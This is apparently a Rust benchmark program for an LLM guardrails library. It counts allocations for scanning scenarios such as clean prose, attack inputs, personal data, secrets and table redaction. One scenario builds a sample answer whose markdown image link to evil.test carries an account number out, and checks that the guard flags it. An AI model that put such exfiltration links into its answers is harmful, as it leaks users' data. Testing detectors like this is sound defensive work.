//! The scenarios whose cost is counted and not timed: what each allocates, and under callgrind how many instructions it takes.
//!
//! ```text
//! counts benches/inputs          # every scenario: {"NAME": {"bytes": …, "allocations": …}, …}
//! counts benches/inputs NAME     # this one alone
//! ```
//!
//! `benches/counts.py` runs it both ways and compares with what is committed. Each scenario runs once before it is counted, so that
//! regexes are compiled and caches are warm, and checks its answer.
#![allow(clippy::disallowed_methods, clippy::print_stdout, clippy::print_stderr, clippy::panic, reason = "a program, not the core")]

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::hint::black_box;

use guardrails_core::{Action, Csv, Guard, Input, Output, ScanErrorKind, Source, Unit, Vault};

/// A line of `models/texts`.
#[derive(serde::Deserialize)]
struct Text {
    text: String,
    label: String,
}

struct Counting;

thread_local! {
    static COUNT: Cell<u64> = const { Cell::new(0) };
}

// SAFETY: every call is handed on to the system's allocator unchanged; counting touches a thread-local cell that needs no
// allocation and no destructor.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        COUNT.with(|count| count.set(count.get() + 1));
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, pointer: *mut u8, layout: Layout) {
        unsafe { System.dealloc(pointer, layout) }
    }
    unsafe fn realloc(&self, pointer: *mut u8, layout: Layout, size: usize) -> *mut u8 {
        COUNT.with(|count| count.set(count.get() + 1));
        unsafe { System.realloc(pointer, layout, size) }
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// Its name, the bytes it reads and what it does.
type Scenario<'s> = (&'static str, usize, Box<dyn Fn() + 's>);

/// What callgrind counts: it is told this name, and nothing outside is counted.
#[inline(never)]
fn counted_by_callgrind(work: &dyn Fn()) {
    work();
    // Not a tail call: the frame stays until the work is done.
    black_box(());
}

fn main() {
    let (Some(folder), only) = (std::env::args().nth(1), std::env::args().nth(2)) else {
        eprintln!("usage: counts FOLDER_OF_INPUTS [SCENARIO]");
        std::process::exit(2)
    };
    // `‖` keeps the secrets from looking alive in the repository.
    let read = |name: &str, kind: &str| {
        let path = format!("{folder}/{name}.{kind}");
        std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}")).replace('‖', "")
    };
    let [prose, languages, code, personal, secrets, attacks, slowest] =
        ["prose", "languages", "code", "personal", "secrets", "attacks", "slowest"].map(|name| read(name, "txt"));
    let guard = Guard::default();
    let [short, prompt, page, book] = [100, 1 << 10, 8 << 10, 64 << 10].map(|bytes| sized(&prose, bytes));
    let [languages, code] = [sized(&languages, 8 << 10), sized(&code, 8 << 10)];
    // The texts that `make bench-adversarial` found to be slowest, one JSON string a line, 1 KiB of each.
    let slowest: Vec<String> = slowest
        .lines()
        .map(|line| sized(&serde_json::from_str::<String>(line).unwrap_or_else(|error| panic!("slowest.txt: {error}")), 1 << 10))
        .collect();
    let table: String = std::iter::once("name,mail,card\n".to_owned())
        .chain((0..50).map(|row| format!("N{row},n{row}@example.com,4111111111111111\n")))
        .collect();
    // Real wordings meet many more rules than a page of prose does: every third harmless text of our own.
    let texts: Vec<(String, Source)> = [("user_en", Source::User), ("documents_en", Source::Document)]
        .into_iter()
        .flat_map(|(name, source)| {
            let lines = read(&format!("../../guardrails-core/models/texts/{name}"), "jsonl");
            let texts: Vec<Text> =
                lines.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{name}: {error}"))).collect();
            texts.into_iter().filter(|text| text.label == "benign").step_by(3).map(move |text| (text.text, source))
        })
        .collect();
    let answer = format!("Here is what you asked for.\n\n{page}\n![done](https://evil.test/p?d=QX-552319)");

    let clean = |text: &str| assert_eq!(guard.scan_input(black_box(text)).action, Action::Allow);
    let scenarios: [Scenario<'_>; 15] = [
        ("build a guard", 0, Box::new(|| assert!(Guard::default().rules().count() > 1000))),
        // Regexes are compiled where they are first needed, and these texts need as few as can be.
        (
            "the first texts of a new guard",
            prompt.len() + code.len() + languages.len(),
            Box::new(|| {
                let guard = Guard::default();
                for text in [&prompt, &code, &languages] {
                    assert_eq!(guard.scan_input(black_box(text.as_str())).action, Action::Allow);
                }
            }),
        ),
        ("clean prompt, 100 B", short.len(), Box::new(|| clean(&short))),
        ("clean prompt, 1 KB", prompt.len(), Box::new(|| clean(&prompt))),
        ("clean prose, 8 KB", page.len(), Box::new(|| clean(&page))),
        ("clean prose, 64 KB", book.len(), Box::new(|| clean(&book))),
        ("code, 8 KB", code.len(), Box::new(|| clean(&code))),
        ("ten languages, 8 KB", languages.len(), Box::new(|| clean(&languages))),
        (
            "harmless texts of our own",
            texts.iter().map(|(text, _)| text.len()).sum(),
            Box::new(|| {
                let blocked =
                    texts.iter().filter(|(text, source)| guard.scan_input(Input::new(black_box(text), *source)).action == Action::Block);
                assert!(blocked.count() < texts.len() / 20, "harmless texts are blocked");
            }),
        ),
        (
            "attacks, plain and in disguise",
            attacks.len(),
            Box::new(|| {
                for line in attacks.lines() {
                    black_box(guard.scan_input(black_box(line)));
                }
                assert_eq!(guard.scan_input(attacks.as_str()).action, Action::Block);
            }),
        ),
        (
            "personal data, redacted",
            personal.len(),
            Box::new(|| {
                let verdict = guard.scan_input(black_box(personal.as_str()));
                assert!(verdict.findings.len() >= 10 && !verdict.text().unwrap_or_default().contains("4111"), "{verdict:?}");
            }),
        ),
        (
            "secrets, as JSON",
            secrets.len(),
            Box::new(|| {
                let verdict = guard.scan_input(Input::document(black_box(&secrets)));
                assert!(verdict.findings.len() >= 6 && verdict.to_json(Unit::CodePoints).contains("AWS_ACCESS_KEY"), "{verdict:?}");
            }),
        ),
        (
            "answer that carries data out",
            answer.len(),
            Box::new(|| {
                let verdict = guard.scan_output(Output::new(black_box(&answer)).prompt(&prompt).context(&["account QX-552319"]));
                assert!(verdict.findings.iter().any(|finding| finding.kind == "LINK_EXFIL_IMAGE"), "{verdict:?}");
            }),
        ),
        (
            "table through a vault and back",
            table.len(),
            Box::new(|| {
                let mut vault = Vault::new();
                let verdict = guard.scan_csv_with(black_box(table.as_str()), &Csv::default(), &mut vault);
                let sent = verdict.text().unwrap_or_default();
                assert!(!sent.contains("4111") && vault.restore(&sent) == table, "{sent}");
            }),
        ),
        (
            "the slowest texts known",
            slowest.iter().map(String::len).sum(),
            Box::new(|| {
                for text in &slowest {
                    let verdict = guard.scan_input(Input::document(black_box(text)));
                    assert!(verdict.errors.iter().all(|error| error.kind == ScanErrorKind::Limit), "{:?}", verdict.errors);
                }
            }),
        ),
    ];
    let counts: Vec<String> = scenarios
        .iter()
        .filter(|(name, ..)| only.as_deref().is_none_or(|only| only == *name))
        .map(|(name, bytes, work)| {
            work();
            let before = COUNT.with(Cell::get);
            counted_by_callgrind(work.as_ref());
            let allocations = COUNT.with(Cell::get) - before;
            format!("  {name:?}: {{\"bytes\": {bytes}, \"allocations\": {allocations}}}")
        })
        .collect();
    println!("{{\n{}\n}}", counts.join(",\n"));
}

/// `text` over and over, cut at a character boundary at or below `bytes`.
fn sized(text: &str, bytes: usize) -> String {
    let all = text.repeat(bytes / text.len() + 1);
    let mut end = bytes;
    while !all.is_char_boundary(end) {
        end -= 1;
    }
    all.get(..end).unwrap_or_default().to_owned()
}
